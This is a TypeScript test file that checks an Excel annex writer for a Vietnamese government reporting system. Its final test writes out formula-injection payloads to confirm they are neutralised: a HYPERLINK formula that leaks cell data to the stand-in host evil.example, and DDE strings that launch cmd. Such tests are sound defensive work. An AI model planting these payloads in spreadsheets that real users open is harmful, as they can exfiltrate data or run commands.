import { REPORT_TASK_STATUS_LABELS, type ReportModel } from '@regionlink/shared';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { loadFixture2025 } from './fixture-2025';
import { blocksText, listTasks, orderNarratives } from './report-model';
import { ooxmlPart } from './test-support';
import { writeXlsx, XLSX_SHEETS } from './xlsx-writer';

async function reopen(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return wb;
}

const rowsOf = (ws: ExcelJS.Worksheet) => {
  const out: ExcelJS.CellValue[][] = [];
  ws.eachRow((row, n) => {
    if (n > 1) out.push((row.values as ExcelJS.CellValue[]).slice(1));
  });
  return out;
};

describe('XLSX annex', () => {
  it('reopens with exceljs and has one narrative row per (task, organisation) of the model', async () => {
    const model = loadFixture2025();
    const wb = await reopen(await writeXlsx(model));
    expect(wb.worksheets.map((w) => w.name)).toEqual(Object.values(XLSX_SHEETS));
    const expected = listTasks(model).flatMap(({ task }) =>
      orderNarratives(model, task.narratives).map((n) => [
        task.code,
        n.organisationCode,
        n.documentNumber ?? '',
        REPORT_TASK_STATUS_LABELS[n.status].vi,
        blocksText(n.blocks, model),
      ]),
    );
    expect(expected.length).toBeGreaterThan(50);
    const rows = rowsOf(wb.getWorksheet(XLSX_SHEETS.narratives)!).map((r) => [r[1], r[4], r[7] ?? '', r[9], r[10]]);
    expect(rows).toEqual(expected);
    const lastNo = rowsOf(wb.getWorksheet(XLSX_SHEETS.narratives)!).at(-1)?.[0];
    expect(lastNo).toBe(expected.length);
  });

  it('has a status matrix of every task against every reporting organisation', async () => {
    const model = loadFixture2025();
    const wb = await reopen(await writeXlsx(model));
    const ws = wb.getWorksheet(XLSX_SHEETS.matrix)!;
    const header = (ws.getRow(1).values as string[]).slice(1);
    const orgs = model.reporters.filter((r) => !r.drafting);
    expect(header.slice(4)).toEqual(orgs.map((r) => r.name));
    const rows = rowsOf(ws);
    const tasks = listTasks(model);
    expect(rows.map((r) => r[0])).toEqual(tasks.map((t) => t.task.code));
    tasks.forEach(({ task }, i) => {
      expect(rows[i][3]).toBe(task.narratives.length);
      orgs.forEach((org, j) => {
        const n = task.narratives.find((x) => x.organisationCode === org.organisationCode);
        expect(rows[i][4 + j] ?? '').toBe(n ? REPORT_TASK_STATUS_LABELS[n.status].vi : '');
      });
    });
  });

  it('lists the reporters of Appendix 1 with real dates and the organisations that did not report', async () => {
    const model = loadFixture2025();
    const wb = await reopen(await writeXlsx(model));
    const rows = rowsOf(wb.getWorksheet(XLSX_SHEETS.reporters)!);
    expect(rows).toHaveLength(38);
    expect(rows[0].slice(0, 5)).toEqual(['Bộ, ngành', 1, 'Bộ Tài chính', 'BTC', 'Cơ quan soạn thảo']);
    const langson = rows.find((r) => r[3] === 'UBND-20')!;
    expect(langson[4]).toBe('766/BC-UBND');
    expect((langson[5] as Date).toISOString().slice(0, 10)).toBe('2025-11-24');
    expect(rows.find((r) => r[3] === 'TTCP')?.[9]).toContain('cần đối chiếu');
    const missing = rowsOf(wb.getWorksheet(XLSX_SHEETS.missing)!);
    expect(missing.map((r) => r[2]).sort()).toEqual(model.nonReporters.map((r) => r.organisationCode).sort());
  });

  it('neutralises user text that would start a formula, and writes no formula cell', async () => {
    const model: ReportModel = loadFixture2025();
    const task = listTasks(model)[0].task;
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    task.narratives[0].blocks = [
      { kind: 'paragraph', content: [{ kind: 'text', text: attack, bold: false, italic: false }] },
    ];
    task.narratives[0].organisationName = '+cmd|" /C calc"!A0';
    task.narratives[0].documentNumber = '@SUM(1+1)*cmd|" /C calc"!A0';
    model.reporters[1].note = '-2+3+cmd|" /C calc"!A0';
    const buf = await writeXlsx(model);
    const wb = await reopen(buf);
    const values: string[] = [];
    for (const ws of wb.worksheets)
      ws.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') values.push(cell.value);
        });
      });
    for (const v of values) expect(v).not.toMatch(/^[=+\-@]/);
    expect(values).toContain(`'${attack}`);
    expect(values).toContain(`'+cmd|" /C calc"!A0`);
    expect(values).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(values).toContain(`'-2+3+cmd|" /C calc"!A0`);
    for (const sheet of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml', 'xl/worksheets/sheet3.xml'])
      expect(await ooxmlPart(buf, sheet)).not.toMatch(/<f>|<f /);
  });
});
